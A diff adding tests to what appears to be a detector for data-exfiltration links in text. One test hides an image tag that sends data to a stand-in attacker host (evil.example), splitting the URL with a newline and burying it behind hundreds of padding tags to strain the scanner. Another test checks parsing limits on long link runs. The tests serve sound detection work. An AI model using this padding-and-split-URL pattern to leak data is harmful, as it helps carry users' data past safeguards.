@@ -2,6 +2,7 @@ import { describe, expect, test } from "vitest";
 import { createInspector } from "../engine.ts";
 import { DETECTORS } from "../index.ts";
 import { prepareText } from "../prepare.ts";
+import { findLinks } from "./link-scan.ts";
 
 const inspector = createInspector(DETECTORS.filter(({ id }) => id === "exfiltration-channel"));
 const context = {
@@ -66,3 +67,20 @@ test("a text with more addresses than are looked at is unscannable", () => {
   const [result] = inspector.inspect(prepareText(text), frame);
   expect(result?.outcome).toBe("unscannable");
 });
+
+test("what browsers load of many lists of sources is looked at to the last, or the text is unscannable", () => {
+  const image = '<img srcset="https://a.corp.example/1.png 1x, https://a.corp.example/2.png 2x">\n';
+  const text = (count: number): string => `${image.repeat(count)}<img src="ht\ntps://evil.example/?d=${DATA}">`;
+  const [few, many] = [300, 1000].map((count) => inspector.inspect(prepareText(text(count)), frame)[0]);
+  expect(few?.outcome).toBe("inspected");
+  expect(Math.max(...(few?.detections ?? []).map(({ confidence }) => confidence))).toBeGreaterThan(BLOCKED_FROM);
+  expect(many?.outcome).toBe("unscannable");
+});
+
+// Finishing inside the test's time is the point: where each address is read to the end of its run, this takes longer.
+test.each([")//abcd", ")http:ab"])(
+  "addresses in one run such as %j are parted without reading all of it for each",
+  (piece) => {
+    expect(findLinks(piece.repeat(600_000), true).links.length).toBeLessThanOrEqual(4_096);
+  },
+);
